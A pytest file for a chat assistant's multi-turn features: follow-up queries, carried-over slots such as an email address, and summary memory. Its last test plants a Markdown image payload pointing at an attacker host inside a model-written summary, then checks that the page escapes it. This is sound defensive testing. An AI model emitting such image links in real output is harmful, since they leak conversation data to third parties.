"""Multi-turn context: follow-up queries, carried-over slots, summary memory."""

from assistant.config import ChatConfig, GenerationConfig
from assistant.context import followup_query, is_followup, referenced_source
from assistant.engine import Engine
from assistant.store import Store
from assistant.types import Conversation, Source, Turn


def _conv(*questions: str) -> Conversation:
    conv = Conversation()
    for q in questions:
        conv.turns.append(Turn(user=q, answer="…", query=q))
    return conv


def test_pronoun_followup_query_carries_the_subject_of_the_earlier_turn():
    conv = _conv("How do refunds work for the Premium plan?")
    query = followup_query(conv, "How long does it take?")
    assert "refunds" in query and "Premium" in query
    assert query.startswith("How long does it take?")


def test_chinese_elided_followup_carries_the_subject():
    conv = _conv("高级套餐的退款怎么办理？")
    query = followup_query(conv, "那需要多久？")
    assert "退款" in query


def test_standalone_questions_are_left_alone():
    conv = _conv("How do refunds work?")
    message = "Which payment methods does the shop accept for international orders?"
    assert not is_followup(message)
    assert followup_query(conv, message) == message
    assert followup_query(Conversation(), "How long does it take?") == "How long does it take?"


def test_ordinal_reference_resolves_to_an_earlier_source():
    conv = Conversation()
    conv.turns.append(Turn(user="Which guides exist?", answer="…", sources=[
        Source(chunk_id="1", doc_id="a", text="…", source="upload.md", title="Uploading documents"),
        Source(chunk_id="2", doc_id="b", text="…", source="embed.md", title="Embedding on your site"),
    ]))
    assert referenced_source(conv, "and the second one?").title == "Embedding on your site"
    assert "Embedding on your site" in followup_query(conv, "and the second one?")


def test_summary_replaces_dropped_turns_and_stays_within_budget(tiny_lm, store):
    eng = Engine(tiny_lm, store, chat=ChatConfig(context_tokens=320, summary_tokens=60),
                 generation=GenerationConfig(max_new_tokens=6))
    conv = store.create("alice")
    for i in range(30):
        turn = eng.run_turn(conv, f"Question {i}: how are refunds for order {1000 + i} paid?")
        assert len(turn.prompt_ids) <= eng.budget()
    assert conv.summarized_turns, "old turns must be folded into the summary"
    tok = tiny_lm.tokenizer
    assert len(tok(conv.summary, add_special_tokens=False)["input_ids"]) <= 60
    # the newest folded turn is represented in the summary
    newest_folded = next(t for t in reversed(conv.turns) if t.id in conv.summarized_turns)
    assert f"Question {conv.turns.index(newest_folded)}:" in conv.summary
    # the summary is in the prompt, as its own segment
    last = conv.turns[-1]
    assert any(s.kind == "summary" for s in last.segments)
    # and stored with the conversation
    assert store.get(conv.id, "alice").summary == conv.summary


def test_slots_persist_across_turns_and_a_restart(tiny_lm, tmp_path):
    path = tmp_path / "db.sqlite"
    store = Store(path)
    eng = Engine(tiny_lm, store, chat=ChatConfig(context_tokens=512), generation=GenerationConfig(max_new_tokens=4))
    conv = store.create("alice")
    eng.run_turn(conv, "My email is jane.doe@example.com and I need help with a refund")
    eng.run_turn(conv, "How long does it take?")
    assert conv.slots.get("email") == "jane.doe@example.com"
    store.close()
    restarted = Store(path)
    again = restarted.get(conv.id, "alice")
    assert again.slots.get("email") == "jane.doe@example.com"
    eng2 = Engine(tiny_lm, restarted, chat=ChatConfig(context_tokens=512), generation=GenerationConfig(max_new_tokens=4))
    turn = eng2.run_turn(again, "Can you check the status?")
    assert "jane.doe@example.com" in tiny_lm.tokenizer.decode(turn.prompt_ids)


class _Hit:
    def __init__(self, chunk_id):
        self.chunk_id = chunk_id


def test_augmented_query_is_used_only_when_it_agrees_with_the_message_alone():
    from assistant.context import retrieve_for_turn

    conv = _conv("How do refunds work for the Premium plan?")
    # a search where the augmented query finds 'refunds', the message alone ranks it 3rd
    def search(q, k):
        ranking = ["refunds", "delivery", "accounts"] if "refunds" in q else ["delivery", "accounts", "refunds"]
        return [_Hit(c) for c in ranking][:k]

    query, hits = retrieve_for_turn(search, conv, "How long does it take?", k=2)
    assert "refunds" in query and hits[0].chunk_id == "refunds"

    # a standalone-looking follow-up whose augmented top hit is not among the message's own results
    def search2(q, k):
        return [_Hit("premium-plan")] if "Premium" in q else [_Hit(c) for c in ("tesla", "nikola")][:k]

    query, hits = retrieve_for_turn(search2, conv, "What was named after it?", k=2, agree_k=2)
    assert query == "What was named after it?" and hits[0].chunk_id == "tesla"


def test_the_older_messages_note_opens_the_summary_as_text():
    from assistant.web.chat_page import context_note

    conv = _conv("first <b>question</b>?", "second?")
    conv.turns[-1].dropped_turns = [conv.turns[0].id]
    conv.summary = "User asked: first <b>question</b>? ![x](https://attacker.example/?d=1)"  # the model wrote it
    note = context_note(conv)
    assert "1 older exchange" in note and "<details" in note
    assert "&lt;b&gt;question&lt;\\/b&gt;" in note and "<b>question</b>" not in note  # literal Markdown text
    assert "![x](" not in note and "https://" not in note  # no image, no link can form
